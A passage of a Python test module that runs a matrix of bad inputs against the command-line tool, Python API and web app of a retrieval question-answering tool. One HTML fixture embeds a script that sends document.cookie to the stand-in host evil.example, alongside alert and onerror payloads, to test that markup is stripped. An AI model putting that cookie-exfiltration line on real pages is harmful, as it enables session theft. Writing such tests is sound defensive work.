"""The bad-input matrix (issue #8): every entry point x every class of bad input, each cell run for real.

A cell passes when its entry point gives a one-line specific message (the CLI: exit code 2, one
line on stderr, no traceback) or a correct result; nothing is lost (every article file is indexed
or listed as skipped with its reason) and the huge inputs keep memory bounded. Message cells of
the CLI run the unmodified `rag` executable; result cells run the same CLI code (a subprocess
where memory is measured, click's runner otherwise), the Python API and the Streamlit app
(streamlit.testing AppTest) with a test-double embedder (rag.crashtest_worker.HashEncoder): the
real MiniLM adds minutes to these checks, not behaviour. The readers are the real ones.

    >>> results = run_matrix(QUICK)  # doctest: +SKIP
    >>> [r.key for r in results if r.passed is False]  # doctest: +SKIP
    []
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import shlex
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any
from unittest import mock

from rag.crashtest_worker import HashEncoder
from rag.peak_memory import wait_with_peak

PACKAGE_ROOT = Path(__file__).resolve().parents[1]
APP_FILE = PACKAGE_ROOT / "app.py"
Log = Callable[[str], None]

ENTRY_POINTS = (
    "rag index",
    "rag search",
    "rag ask",
    "rag eval",
    "rag bench",
    "Python API",
    "app chat",
    "app upload",
)
INPUT_CLASSES = {
    "missing_path": "missing path",
    "empty_folder": "empty folder",
    "binaries": "folder of binaries",
    "nul_bytes": "NUL bytes",
    "invalid_utf8": "invalid UTF-8",
    "latin1": "latin-1",
    "huge_article": "50 MB article",
    "many_articles": "many tiny articles",
    "html_scripts": "HTML with scripts",
    "q_empty": "empty question",
    "q_blank": "whitespace question",
    "q_100kb": "100 KB question",
    "q_emoji": "emoji-only question",
    "k_zero": "k = 0",
    "k_negative": "k < 0",
    "k_huge": "huge k",
    "bad_question_file": "malformed question file",
    "changing_corpus": "corpus changes while indexing",
}
QUESTION_CLASSES = ("q_empty", "q_blank", "q_100kb", "q_emoji")
K_CLASSES = ("k_zero", "k_negative", "k_huge")

# Memory bounds (peak RSS of the `rag index` process; see docs/RELIABILITY.md for why these numbers).
HUGE_RSS_MARGIN_MB = 32.0  # a 50 MB file that is never read whole costs (almost) nothing
# Bookkeeping kept per article for the whole corpus (manifest entry, file list, duplicate maps, id
# sets) measures ~2.7 KB with a block-wise ingestion; holding every parsed article and its passages
# until the end measures ~6 KB. Plus the article's vector.
PER_ARTICLE_BUDGET_BYTES = 4096
MESSAGE_TIMEOUT_S = 180.0
HUGE_TIMEOUT_S = 60.0


@dataclass(frozen=True)
class MatrixSize:
    """How big the big inputs are: "quick" for CI, "full" for docs/RELIABILITY.md."""

    name: str
    many_articles: int
    upload_batch: int  # tiny articles uploaded in one go through the app
    race_articles: int  # articles of the corpus that changes under a running `rag index`
    many_timeout_s: float
    huge_bytes: int = 50 * 2**20

    def __post_init__(self) -> None:
        if self.many_articles < 2000:  # the many-articles question asks about article 1234
            raise ValueError(f"many_articles must be >= 2000, got {self.many_articles}")


QUICK = MatrixSize("quick", many_articles=10_000, upload_batch=100, race_articles=300, many_timeout_s=600)
FULL = MatrixSize("full", many_articles=100_000, upload_batch=1000, race_articles=1000, many_timeout_s=3600)


@dataclass(frozen=True)
class Observed:
    """What a passing cell saw."""

    outcome: str  # short, for the table
    detail: str  # the exact message, or what was checked
    command: str = ""
    peak_rss_mb: float | None = None


class CellFailure(Exception):
    """A cell whose entry point misbehaved; the message says how, `observed` what it printed."""

    def __init__(self, message: str, observed: str = "", command: str = "") -> None:
        super().__init__(message)
        self.observed = observed
        self.command = command


@dataclass(frozen=True)
class Cell:
    """One entry point x one input class: what is fed in, what should happen, and the check."""

    entry: str
    input_class: str
    expected: str  # "message", "result" or "n/a"
    case: str  # the exact input, or why the class does not apply
    run: Callable[[Workspace], Observed] | None = None


@dataclass(frozen=True)
class CellResult:
    entry: str
    input_class: str
    expected: str
    case: str
    passed: bool | None  # None: does not apply
    outcome: str
    detail: str
    command: str
    seconds: float
    peak_rss_mb: float | None = None

    @property
    def key(self) -> str:
        return f"{self.entry} x {INPUT_CLASSES[self.input_class]}"


@dataclass(frozen=True)
class CliRun:
    command: str
    code: int
    stdout: str
    stderr: str
    seconds: float
    peak_rss_mb: float | None = None
    timed_out: bool = False

    def failure(self, message: str) -> CellFailure:
        shown = f"exit {self.code}\nstdout: {self.stdout[-1500:]}\nstderr: {self.stderr[-1500:]}"
        return CellFailure(message, shown, self.command)


def check(condition: object, message: str) -> None:
    if not condition:
        raise CellFailure(message)


# ---- inputs --------------------------------------------------------------------------------

GOOD = {
    "harbour.txt": "Harbour reopens after the storm\n\nThe harbour master Ingrid Solberg reopened the port "
    "of Tromso on Monday after the storm. Ferries to the islands will run again from Tuesday.\n",
    "budget.txt": "City budget approved\n\nThe council of Bergen approved a budget of 2.4 billion crowns "
    "on Thursday. The mayor, Marit Halvorsen, said schools would get most of the new money.\n",
    "orchestra.txt": "Orchestra opens new hall\n\nThe Stavanger orchestra played its first concert in the "
    "new hall on Saturday. The conductor Tobias Lindqvist chose music by Grieg.\n",
}
GOOD_QUESTIONS = [
    ("Who reopened the port of Tromso?", "Ingrid Solberg"),
    ("What did the council of Bergen approve?", "a budget of 2.4 billion crowns"),
    ("Who conducted the Stavanger orchestra?", "Tobias Lindqvist"),
    ("When did the harbour of Tromso reopen?", "on Monday"),
    ("Who is the mayor of Bergen?", "Marit Halvorsen"),
    ("Whose music did the Stavanger orchestra play?", "Grieg"),
]
HTML_PAGE = """<!DOCTYPE html><html><head><title>Bridge inspection finds cracks</title>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<style>body { display: none }</style></head>
<body onload="alert('x')"><nav>Home | News | Sport</nav>
<article><h1>Bridge inspection finds cracks</h1>
<p>Engineers found cracks in the old Kingsford bridge during an inspection on Tuesday, the roads
agency said on Wednesday.</p>
<script>alert('inline')</script>
<p>The bridge will close to lorries from next week while the repairs are planned.</p>
<img src=x onerror="alert(1)"></article></body></html>
"""
SPECIAL_FILES: dict[str, tuple[str, bytes]] = {
    "nul_bytes": ("nul.txt", b"Ferry strike ends\n\nThe ferry workers ended their strike\x00 on Friday.\n"),
    "invalid_utf8": (
        "mixed.txt",
        "Café owners protest\n\nCafé owners in Oslo protested against the new rent rules on "
        "Wednesday.\n".encode()
        + b"Stray byte: \xff\n",
    ),
    "latin1": (
        "zurich.txt",
        "Zürich café reopens\n\nThe café on the Limmat in Zürich reopened on Sunday, said its owner "
        "Jürg Müller.\n".encode("latin-1"),
    ),
    "html_scripts": ("page.html", HTML_PAGE.encode()),
}
SCRIPT_TEXT = ("alert(", "document.cookie", "<script", "onerror", "display: none")


@dataclass(frozen=True)
class Target:
    """A question about one corpus, the article that answers it and what must (not) be found."""

    question: str
    answer: str
    doc_id: str
    contains: str
    skipped: tuple[tuple[str, str], ...] = ()  # (doc_id, words of the reason) listed as skipped
    absent: tuple[str, ...] = ()  # text no passage may hold


TARGETS = {
    "nul_bytes": Target(*GOOD_QUESTIONS[0], "harbour.txt", "Ingrid Solberg", (("nul.txt", "NUL bytes"),)),
    "invalid_utf8": Target(
        "Who protested against the new rent rules in Oslo?",
        "owners",
        "mixed.txt",
        "protested against the new rent rules",
    ),
    "latin1": Target("Who owns the café in Zürich?", "Jürg Müller", "zurich.txt", "Jürg Müller"),
    "html_scripts": Target(
        "What did engineers find in the Kingsford bridge?",
        "cracks",
        "page.html",
        "found cracks in the old Kingsford bridge",
        absent=SCRIPT_TEXT,
    ),
    "huge_article": Target(*GOOD_QUESTIONS[0], "harbour.txt", "Ingrid Solberg", (("huge.txt", "too large"),)),
    "many_articles": Target(
        "What changed in town 1234?", "vaccine", "001/001234.txt", "of town 1234 changed"
    ),
}
CORPUS_RESULT_CLASSES = tuple(TARGETS)
BINARIES = {
    "scan.txt": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
    "report.md": b"%PDF-1.4\n" + bytes(range(256)) * 4,
    "page.html": b"\x1f\x8b\x08\x00" + bytes(range(256)) * 4,
    "photo.png": b"\x89PNG\r\n\x1a\n",  # not an article suffix: never considered
}
WORDS = "harbour storm mayor budget vaccine river festival strike election orchestra".split()
MALFORMED_LINES = [
    "{not json",
    '["a list", "not an object"]',
    '{"id": "bad-blank", "question": "   ", "answers": []}',
    '{"id": "q1", "question": "Who reopened the port?", "answers": ["Ingrid Solberg"]}',  # duplicate id
    '{"id": "bad-answers", "question": "Where?", "answers": "Tromso"}',
    '{"id": 7, "question": "Who?", "answers": []}',
]
BAD_QUESTIONS = {"q_empty": "", "q_blank": "  \t  ", "q_100kb": "why " * 25_600, "q_emoji": "😀🎉🔥🙈"}
QUESTION_NEEDLES = {
    "q_empty": "question is empty",
    "q_blank": "question is empty",
    "q_100kb": "question is too long",
    "q_emoji": "question has no words",
}
BAD_K = {"k_zero": 0, "k_negative": -3, "k_huge": 10**12}


def tiny_article(i: int) -> str:
    return f"Note {i}\n\nItem {i} says the {WORDS[i % 10]} of town {i} changed on day {i % 365}.\n"


def tiny_name(i: int) -> str:
    return f"{i // 1000:03d}/{i:06d}.txt"


def write_many(corpus: Path, n: int) -> None:
    for i in range(n):
        path = corpus / tiny_name(i)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(tiny_article(i), encoding="utf-8")


def write_huge(path: Path, size: int) -> None:
    """A prose-like article of `size` bytes, written in 1 MB blocks (never held whole)."""
    rng = random.Random(0)
    sentences = [" ".join(rng.choice(WORDS) for _ in range(12)).capitalize() + ". " for _ in range(200)]
    block = ("\n\n".join("".join(sentences[k : k + 10]) for k in range(0, 200, 10)) + "\n\n").encode()
    with path.open("wb") as handle:
        handle.write(b"A very long article\n\n")
        written = 0
        while written < size:
            chunk = (block * (2**20 // len(block) + 1))[: min(2**20, size - written)]
            handle.write(chunk)
            written += len(chunk)


def question_file(path: Path, extra: list[str], good: int = len(GOOD_QUESTIONS)) -> Path:
    lines = [
        json.dumps({"id": f"q{n + 1}", "question": q, "answers": [a]})
        for n, (q, a) in enumerate(GOOD_QUESTIONS[:good])
    ]
    path.write_text("\n".join(lines + extra) + "\n", encoding="utf-8")
    return path


# ---- running the entry points --------------------------------------------------------------


def _env() -> dict[str, str]:
    path = os.environ.get("PYTHONPATH")
    return {**os.environ, "PYTHONPATH": str(PACKAGE_ROOT) + (os.pathsep + path if path else "")}


def run_process(argv: list[str], timeout: float, shown: str) -> CliRun:
    """Run a command as a user would; its own peak RSS (rag.peak_memory: wait4's would include ours)."""
    started = time.perf_counter()
    killed = threading.Event()
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        process = subprocess.Popen(
            argv, stdin=subprocess.DEVNULL, stdout=out, stderr=err, cwd=PACKAGE_ROOT, env=_env()
        )

        waited = wait_with_peak(process, timeout)
        if waited.timed_out:
            killed.set()
        out.seek(0)
        err.seek(0)
        return CliRun(
            shown,
            process.returncode,
            out.read().decode(errors="replace"),
            err.read().decode(errors="replace"),
            time.perf_counter() - started,
            waited.peak_rss_mb,
            killed.is_set(),
        )


class MutatingEncoder(HashEncoder):
    """HashEncoder that runs `mutate` (once) at its first call after `arm`: mid-index, files read."""

    def __init__(self, mutate: Callable[[], None] | None = None) -> None:
        super().__init__()
        self._mutate = mutate

    def arm(self, mutate: Callable[[], None]) -> None:
        self._mutate = mutate

    @property
    def fired(self) -> bool:
        """Whether the change has been made (False: no index build embedded anything since `arm`)."""
        return self._mutate is None

    def encode(self, texts: list[str], *, show_progress: bool = False) -> Any:
        mutate, self._mutate = self._mutate, None
        if mutate is not None:
            mutate()
        return super().encode(texts, show_progress=show_progress)


_MODEL_NAMES = ("SentenceTransformerEncoder", "OnnxEncoder", "OnnxFp32Encoder", "make_encoder")


@contextmanager
def embedder_double(encoder: Callable[[], Any] = HashEncoder) -> Iterator[None]:
    """Every place the product makes its embedder makes `encoder()` instead, until the block ends.

    The modules that make one are imported first, so the names are patched and restored rather
    than captured by a later import.
    """
    import rag.cli  # noqa: F401
    import rag.service  # noqa: F401

    def make(*args: Any, **kwargs: Any) -> Any:
        return encoder()

    with ExitStack() as stack:
        for name, module in list(sys.modules.items()):
            if not name.startswith(("rag.", "embeddings.")) or name in (
                "embeddings.encoder",
                "embeddings.onnx_encoder",
            ):
                continue
            for attribute in _MODEL_NAMES:
                if hasattr(module, attribute):
                    stack.enter_context(mock.patch.object(module, attribute, make))
        yield


@contextmanager
def _shared_span_model() -> Iterator[None]:
    """One loaded span model per process, as the app shares it across sessions (saves seconds/cell)."""
    import rag.neural_reader

    real = rag.neural_reader.NeuralReader
    loaded: dict[tuple[Any, ...], Any] = {}

    def shared(*args: Any, **kwargs: Any) -> Any:
        key = (args, tuple(sorted(kwargs.items())))
        if key not in loaded:
            loaded[key] = real(*args, **kwargs)
        return loaded[key]

    with mock.patch.object(rag.neural_reader, "NeuralReader", shared):
        yield


# ---- the workspace: inputs made once per run -----------------------------------------------


@dataclass
class Workspace:
    """Scratch folder with the bad inputs, made on first use; indexes live under its index home."""

    root: Path
    size: MatrixSize
    _corpora: dict[str, Path] = field(default_factory=dict)
    _runs: dict[str, CliRun] = field(default_factory=dict)
    _pipelines: dict[str, Any] = field(default_factory=dict)

    @property
    def index_home(self) -> Path:
        """Where every index of the run goes ($RAG_INDEX_HOME while the run lasts)."""
        return self.root / "index-home"

    def path(self, name: str) -> Path:
        return self.root / name

    def shown(self, argv: list[str]) -> str:
        return self.clean(shlex.join(argv))

    def clean(self, text: str) -> str:
        """Workspace paths as $WORK, so messages read the same on every run."""
        return text.replace(str(self.root), "$WORK")

    def _cleaned(self, run: CliRun) -> CliRun:
        return replace(run, stdout=self.clean(run.stdout), stderr=self.clean(run.stderr))

    def corpus(self, name: str) -> Path:
        """The corpus for an input class ("good" is three plain articles)."""
        if name in self._corpora:
            return self._corpora[name]
        path = self.root / "corpora" / name
        if name != "missing_path":
            path.mkdir(parents=True)
        if name in ("good", "nul_bytes", "invalid_utf8", "latin1", "huge_article", "html_scripts"):
            for doc_id, text in GOOD.items():
                (path / doc_id).write_text(text, encoding="utf-8")
        if name in SPECIAL_FILES:
            doc_id, data = SPECIAL_FILES[name]
            (path / doc_id).write_bytes(data)
        elif name == "binaries":
            for doc_id, data in BINARIES.items():
                (path / doc_id).write_bytes(data)
        elif name == "huge_article":
            write_huge(path / "huge.txt", self.size.huge_bytes)
        elif name == "many_articles":
            write_many(path, self.size.many_articles)
        elif name == "many_small":
            write_many(path, self.size.many_articles // 5)
        self._corpora[name] = path
        return path

    def fresh_copy(self, name: str, source: str = "good") -> Path:
        """A private, writable copy of a corpus (for cells that change it)."""
        target = self.root / "corpora" / name
        shutil.copytree(self.corpus(source), target)
        return target

    def questions(self, name: str, extra: list[str], good: int = len(GOOD_QUESTIONS)) -> Path:
        return question_file(self.root / f"{name}.jsonl", extra, good)

    # The three ways to run the CLI.
    def rag(self, *args: str, timeout: float = MESSAGE_TIMEOUT_S) -> CliRun:
        """The installed `rag` executable, unmodified."""
        script = Path(sys.executable).with_name("rag")
        argv = [str(script)] if script.is_file() else [sys.executable, "-m", "rag"]
        return self._cleaned(run_process([*argv, *args], timeout, self.shown(["rag", *args])))

    def rag_double(self, *args: str, timeout: float = MESSAGE_TIMEOUT_S) -> CliRun:
        """`rag` in its own process with the test-double embedder (`python -m rag.badinput`)."""
        argv = [sys.executable, "-m", "rag.badinput", *args]
        return self._cleaned(
            run_process(argv, timeout, self.shown(["rag", *args]) + "  # test-double embedder")
        )

    def rag_inprocess(self, *args: str, encoder: Callable[[], Any] = HashEncoder) -> CliRun:
        """click's runner in this process, with the test-double embedder."""
        from click.testing import CliRunner

        from rag.cli import main

        started = time.perf_counter()
        with embedder_double(encoder):
            result = CliRunner().invoke(main, list(args))
        shown = self.shown(["rag", *args]) + "  # in-process, test-double embedder"
        run = CliRun(shown, result.exit_code, result.stdout, result.stderr, time.perf_counter() - started)
        run = self._cleaned(run)
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            trace = "".join(traceback.format_exception(*result.exc_info)) if result.exc_info else ""
            raise CellFailure(f"crashed: {result.exception!r}", trace[-3000:], shown)
        return run

    def indexed(self, name: str) -> CliRun:
        """`rag index` of a big corpus, once per run (later cells of other entry points reuse it)."""
        if name not in self._runs:
            timeout = HUGE_TIMEOUT_S if name == "huge_article" else self.size.many_timeout_s
            corpus = self.corpus(name)
            self._runs[name] = self.rag_double("index", "--corpus", str(corpus), "--quiet", timeout=timeout)
        run = self._runs[name]
        if run.timed_out:
            raise run.failure(f"`rag index` of this corpus did not finish in {run.seconds:.0f} s")
        if run.code != 0:
            raise run.failure(f"`rag index` of this corpus failed with exit code {run.code}")
        return run

    def baseline(self) -> CliRun:
        """`rag index` of a fresh copy of the three good articles: the memory baseline."""
        if "baseline" not in self._runs:
            corpus = self.fresh_copy("baseline")
            self._runs["baseline"] = self.rag_double("index", "--corpus", str(corpus), "--quiet")
        return self._runs["baseline"]

    def pipeline(self, name: str) -> Any:
        """The Python API's pipeline over a corpus, with the test-double embedder."""
        from rag.pipeline import QAPipeline

        if name not in self._pipelines:
            self._pipelines[name] = QAPipeline.from_corpus(self.corpus(name), encoder=HashEncoder())
        return self._pipelines[name]

    def close(self) -> None:
        for qa in self._pipelines.values():
            qa.close()


def index_dir(corpus: Path) -> Path:
    from rag.manifest import default_index_dir

    return default_index_dir(corpus)


# ---- checks shared by the cells ------------------------------------------------------------


def short(message: str, limit: int = 56) -> str:
    text = message.strip().removeprefix("error: ")
    return text if len(text) <= limit else text[: limit - 3] + "..."


def expect_message(run: CliRun, needle: str) -> Observed:
    """What a user must see for bad input: exit code 2, one line on stderr saying `needle`."""
    lines = run.stderr.strip().splitlines()
    if run.timed_out:
        raise run.failure(f"no answer in {run.seconds:.0f} s")
    if "Traceback" in run.stdout + run.stderr:
        raise run.failure("a traceback instead of a message")
    if run.code != 2:
        raise run.failure(f"exit code {run.code}, not 2")
    if len(lines) != 1:
        raise run.failure(f"{len(lines)} lines on stderr, not one")
    if needle not in lines[0]:
        raise run.failure(f"the message does not say {needle!r}")
    return Observed(f"exit 2: {short(lines[0])}", lines[0], run.command, run.peak_rss_mb)


def expect_success(run: CliRun) -> CliRun:
    if run.timed_out:
        raise run.failure(f"did not finish in {run.seconds:.0f} s")
    if run.code != 0 or "Traceback" in run.stderr:
        raise run.failure(f"exit code {run.code}, not 0")
    return run


def expect_rag_error(call: Callable[[], object], needle: str) -> str:
    """The Python API's message: a RagError (not another exception) whose one line says `needle`."""
    from rag.errors import RagError

    try:
        value = call()
    except RagError as exc:
        message = str(exc)
        check(needle in message, f"RagError {message!r} does not say {needle!r}")
        check("\n" not in message, f"the message is not one line: {message!r}")
        return message
    raise CellFailure(f"no error: returned {str(value)[:200]!r}")


def read_manifest(corpus: Path) -> dict[str, Any]:
    path = index_dir(corpus) / "manifest.json"
    check(path.is_file(), f"no index was written for {corpus.name}")
    manifest: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return manifest


def nothing_lost(corpus: Path, skipped: tuple[tuple[str, str], ...] = ()) -> str:
    """Every article file is indexed, a listed duplicate, or listed as skipped with its reason."""
    from rag.documents import discover

    manifest = read_manifest(corpus)
    files = {p.relative_to(corpus).as_posix() for p in discover(corpus)}
    reasons = {s["doc_id"]: s["reason"] for s in manifest["skipped"]}
    articles = manifest["articles"]
    lost = files - set(articles) - set(reasons)
    check(not lost, f"{len(lost)} article file(s) neither indexed nor listed as skipped: {sorted(lost)[:3]}")
    stale = (set(articles) | set(reasons)) - files
    check(not stale, f"the index still lists files that are gone: {sorted(stale)[:3]}")
    check(all(reason.strip() for reason in reasons.values()), "a skipped file without a reason")
    for doc_id, words in skipped:
        reason = reasons.get(doc_id, "")
        check(words in reason, f"{doc_id} is not listed as skipped because of {words!r} (got {reason!r})")
    indexed = sum(bool(e["indexed"]) for e in articles.values())
    listed = "; ".join(f"{d}: {reasons[d]}" for d in sorted(reasons)[:3])
    return f"{len(files)} files: {indexed} indexed, {len(reasons)} skipped with a reason" + (
        f" ({listed})" if listed else ""
    )


def verbatim(corpus: Path, spans: list[tuple[str, int, int, str]]) -> None:
    """Each (doc_id, start, end, text) is exactly the indexed article's text[start:end]."""
    from rag.corpus_index import CorpusIndex

    index = CorpusIndex.open(index_dir(corpus), verify=False)
    try:
        for doc_id, start, end, text in spans:
            article = index.store.article(doc_id)
            check(article is not None, f"cites {doc_id}, which is not in the index")
            assert article is not None
            check(article.text[start:end] == text, f"{doc_id}[{start}:{end}] is not the cited text")
    finally:
        index.close()


def stored_article(corpus: Path, target: Target) -> str:
    """The target article is indexed with the expected text and none of the forbidden text."""
    from rag.corpus_index import CorpusIndex

    index = CorpusIndex.open(index_dir(corpus), verify=True)
    try:
        article = index.store.article(target.doc_id)
    finally:
        index.close()
    check(article is not None, f"{target.doc_id} is not in the index")
    assert article is not None
    check(
        target.contains in article.text, f"{target.doc_id} lost {target.contains!r}: {article.text[:200]!r}"
    )
    for text in target.absent:
        check(text not in article.text, f"{target.doc_id} kept {text!r} from the markup")
    return f"{target.doc_id} indexed ({article.encoding})"


def check_hits(corpus: Path, hits: list[dict[str, Any]], target: Target) -> str:
    check(hits, "no passages found")
    top = hits[0]
    check(top["doc_id"] == target.doc_id, f"the top hit is {top['doc_id']}, not {target.doc_id}")
    check(target.contains in top["text"], f"the top passage lacks {target.contains!r}: {top['text'][:200]!r}")
    skipped = {doc_id for doc_id, _ in target.skipped}
    check(not skipped & {h["doc_id"] for h in hits}, "a skipped file came back as a hit")
    for hit in hits:
        for text in target.absent:
            check(text not in hit["text"], f"a passage holds {text!r}")
    verbatim(corpus, [(h["doc_id"], h["start"], h["end"], h["text"]) for h in hits])
    return f"top hit {top['doc_id']} {top['start']}-{top['end']}"


def check_answer(corpus: Path, data: dict[str, Any], target: Target) -> str:
    cited = [c["doc_id"] for c in data["citations"]]
    check(target.doc_id in cited, f"cites {cited}, not {target.doc_id}")
    spans = [
        (c["doc_id"], c["passage_start"], c["passage_end"], c["passage_text"]) for c in data["citations"]
    ]
    if data["answer"] is not None:
        check(data["doc_id"] and data["answer_start"] is not None, "an answer without its offsets")
        spans.append((data["doc_id"], data["answer_start"], data["answer_end"], data["answer"]))
    verbatim(corpus, spans)
    dumped = json.dumps(data, ensure_ascii=False)
    for text in target.absent:
        check(text not in dumped, f"the answer holds {text!r}")
    if data["answer"] is None:
        return f"abstained; closest passage from {cited[0]}"
    return f"answered {short(data['answer'], 30)!r} from {data['doc_id']}"


def parse_json(run: CliRun) -> Any:
    try:
        return json.loads(run.stdout)
    except json.JSONDecodeError:
        raise run.failure("--json printed something that is not JSON") from None


# ---- the changing corpus ---------------------------------------------------------------------

HARBOUR_V2 = GOOD["harbour.txt"].replace("Ingrid Solberg", "Nora Berg")
LIGHTHOUSE = (
    "Lighthouse lit again\n\nThe lighthouse keeper Per Olsen lit the lamp at Vardo on Friday "
    "for the first time in ten years.\n"
)
LIGHTHOUSE_Q = "Who lit the lamp of the lighthouse at Vardo?"


def changing_corpus(ws: Workspace, name: str) -> tuple[Path, Callable[[], None]]:
    """A private corpus and the change made to it mid-index: one edit, one deletion, one addition."""
    corpus = ws.fresh_copy(name)

    def mutate() -> None:
        (corpus / "harbour.txt").write_text(HARBOUR_V2, encoding="utf-8")
        (corpus / "budget.txt").unlink()
        (corpus / "new").mkdir(exist_ok=True)
        (corpus / "new" / "lighthouse.txt").write_text(LIGHTHOUSE, encoding="utf-8")

    return corpus, mutate


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def index_consistent(corpus: Path, seen: dict[str, set[str]]) -> int:
    """The committed index verifies, answers, and holds only versions the files really had."""
    from rag.crashtest import read_state

    state = read_state(index_dir(corpus))
    check(state is not None, "no index was committed")
    assert state is not None
    for doc_id, digest in state.docs:
        check(digest in seen.get(doc_id, set()), f"{doc_id} is indexed with content it never had")
    return len(state.docs)


def index_matches_files(corpus: Path) -> str:
    """After a quiet sync: the index holds exactly the files as they are now."""
    from rag.crashtest import read_state
    from rag.documents import discover

    lost = nothing_lost(corpus)
    state = read_state(index_dir(corpus))
    assert state is not None
    now = {p.relative_to(corpus).as_posix(): _sha(p.read_bytes()) for p in discover(corpus)}
    indexed = dict(state.docs)
    wrong = sorted(d for d in now.keys() | indexed.keys() if now.get(d) != indexed.get(d))
    check(not wrong, f"{len(wrong)} file(s) differ between the folder and the index: {wrong[:3]}")
    return lost


def hooked_versions(corpus: Path) -> dict[str, set[str]]:
    """Every content the hooked corpus's files have had (before and after `changing_corpus`)."""
    seen = {p.relative_to(corpus).as_posix(): {_sha(p.read_bytes())} for p in corpus.rglob("*.txt")}
    seen.setdefault("harbour.txt", set()).add(_sha(HARBOUR_V2.encode()))
    seen["new/lighthouse.txt"] = {_sha(LIGHTHOUSE.encode())}
    return seen


def hooked_cell(
    ws: Workspace,
    name: str,
    first: Callable[[Workspace, Path, Callable[[], Any]], str],
    again: Callable[[Workspace, Path], str],
) -> Observed:
    """Run an entry point while the corpus changes under its index build, then once more."""
    corpus, mutate = changing_corpus(ws, name)
    seen = hooked_versions(corpus)
    encoder = MutatingEncoder(mutate)
    first_seen = first(ws, corpus, lambda: encoder)
    check(encoder.fired, "the corpus was never changed: the entry point did not index")
    articles = index_consistent(corpus, seen)
    second_seen = again(ws, corpus)
    state = index_matches_files(corpus)
    return Observed(
        "consistent, then caught up",
        f"first run (edit + delete + add mid-index): {first_seen}; index consistent ({articles} articles). "
        f"Next run: {second_seen}; {state}",
    )


def race_cell(ws: Workspace) -> Observed:
    """`rag index` in its own process while a thread edits, adds and deletes files, non-atomically."""
    corpus = ws.root / "corpora" / "race"
    corpus.mkdir(parents=True)
    seen: dict[str, set[str]] = {}
    lock = threading.Lock()

    def write(n: int, version: int, torn: bool) -> None:
        path = corpus / f"{n:05d}.txt"
        data = (
            f"Story {n} version {version}\n\nStory {n} says the {WORDS[(n + version) % 10]} changed "
            f"{version} times.\n".encode()
        )
        with lock:
            seen.setdefault(path.name, set()).update({_sha(b""), _sha(data[: len(data) // 2]), _sha(data)})
        with path.open("wb") as handle:  # truncate, then write in two steps: a reader can see either
            if torn:
                handle.write(data[: len(data) // 2])
                handle.flush()
                time.sleep(0.002)
                handle.write(data[len(data) // 2 :])
            else:
                handle.write(data)

    for n in range(ws.size.race_articles):
        write(n, 0, torn=False)
    stop = threading.Event()
    changes = [0]

    def churn() -> None:
        rng = random.Random(8)
        next_n = ws.size.race_articles
        while not stop.is_set():
            existing = sorted(corpus.glob("*.txt"))
            op = rng.choice(("edit", "edit", "add", "delete"))
            if op == "add" or len(existing) < 10:
                write(next_n, 0, torn=True)
                next_n += 1
            elif op == "edit":
                write(int(rng.choice(existing).stem), changes[0] + 1, torn=True)
            else:
                rng.choice(existing).unlink()
            changes[0] += 1
            time.sleep(0.005)

    thread = threading.Thread(target=churn, daemon=True)
    thread.start()
    try:
        first = expect_success(ws.rag_double("index", "--corpus", str(corpus), "--quiet", timeout=300))
    finally:
        stop.set()
        thread.join()
    articles = index_consistent(corpus, seen)
    second = expect_success(ws.rag_double("index", "--corpus", str(corpus), "--quiet", timeout=300))
    state = index_matches_files(corpus)
    summary = second.stdout.strip().splitlines()[-1] if second.stdout.strip() else ""
    return Observed(
        f"{changes[0]} changes mid-run; consistent",
        f"{changes[0]} edits (written in two steps), additions and deletions while `rag index` ran "
        f"({first.seconds:.1f} s): the committed index verified, answered and held only real versions "
        f"({articles} articles). The next run: {summary}; {state}",
        f"{first.command}  (twice)",
        first.peak_rss_mb,
    )


# ---- the cells, one group per entry point ------------------------------------------------------

CLI_ENTRIES = ("rag index", "rag search", "rag ask", "rag eval", "rag bench")
CORPUS_MESSAGES = {
    "missing_path": ("corpus folder not found", "a corpus path that does not exist"),
    "empty_folder": ("no .txt/.md/.html articles", "an empty folder"),
    "binaries": ("no readable articles", "PNG, PDF and gzip bytes named .txt, .md and .html, and a .png"),
}


def corpus_cases(size: MatrixSize) -> dict[str, str]:
    n = size.many_articles
    return {
        "nul_bytes": "three articles and one with a NUL byte in its text",
        "invalid_utf8": "three articles and a UTF-8 one with a stray 0xFF byte",
        "latin1": "three articles and one in latin-1 ('Zürich', 'Jürg Müller')",
        "huge_article": f"three articles and a {size.huge_bytes // 2**20} MB one",
        "many_articles": f"{n:,} tiny articles in {max(1, n // 1000)} folders",
        "html_scripts": "three articles and an HTML page with <script>, <style> and on* handlers",
    }


def one_question(path: Path, question: str, answer: str) -> Path:
    path.write_text(
        json.dumps({"id": "t", "question": question, "answers": [answer]}) + "\n", encoding="utf-8"
    )
    return path


def _cli_corpus_message(entry: str, input_class: str) -> Cell:
    needle, case = CORPUS_MESSAGES[input_class]

    def run(ws: Workspace) -> Observed:
        corpus = str(ws.corpus(input_class))
        question = GOOD_QUESTIONS[0][0]
        args = {
            "rag index": ["index", "--corpus", corpus, "--quiet"],
            "rag search": ["search", question, "--corpus", corpus],
            "rag ask": ["ask", question, "--corpus", corpus],
            "rag eval": ["eval", str(ws.questions("eval-good", [], good=1)), "--corpus", corpus],
            "rag bench": ["bench", "index", "--corpus", corpus],
        }[entry]
        return expect_message(ws.rag(*args), needle)

    return Cell(entry, input_class, "message", case, run)


def _cli_corpus_result(entry: str, input_class: str, case: str) -> Cell:
    target = TARGETS[input_class]

    def run(ws: Workspace) -> Observed:
        if input_class in ("huge_article", "many_articles"):
            ws.indexed(input_class)  # built (and measured) once, by `rag index` in its own process
        corpus = ws.corpus(input_class)
        c = str(corpus)
        if entry == "rag index":
            done = expect_success(ws.rag_inprocess("index", "--corpus", c, "--quiet"))
            for doc_id, words in target.skipped:
                said = [line for line in done.stdout.splitlines() if line.startswith(f"skipped {doc_id}:")]
                check(said and words in said[0], f"`rag index` does not say {doc_id} was skipped ({words})")
            seen = stored_article(corpus, target)
